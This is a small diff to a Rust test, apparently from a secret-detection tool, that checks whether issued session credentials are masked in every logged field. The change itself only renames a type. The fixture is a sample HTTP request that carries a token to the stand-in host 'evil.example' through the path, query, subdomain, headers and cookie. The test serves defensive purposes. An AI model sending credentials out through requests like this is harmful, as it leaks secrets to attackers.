@@ -339,7 +339,7 @@ fn issued_credentials_are_masked_in_every_text() {
     let get = "GET /a/IQoJb3JpZ2luX2VjE?t=IQoJb3JpZ2luX2VjE&ok=1 HTTP/1.1\nHost: IQoJb3JpZ2luX2VjE.evil.example\n\
                User-Agent: IQoJb3JpZ2luX2VjE\nReferer: http://x/IQoJb3JpZ2luX2VjE\nCookie: c=IQoJb3JpZ2luX2VjE";
     let tx = exchange(conn("10.0.0.1:1", "10.0.0.2:80"), Some(get), None);
-    let mut issued = crate::detect::Grams::new(0);
+    let mut issued = crate::detect::IssuedSecrets::new(0);
     issued.add(&crate::detect::Secret::new(b"IQoJb3JpZ2luX2VjE", crate::detect::Part::Session).unwrap());
     let context = Context { mask: Masker::new(&issued), ..Context::default() };
     let masked = write(all_headers(), &tx, &Verdict::default(), &context);
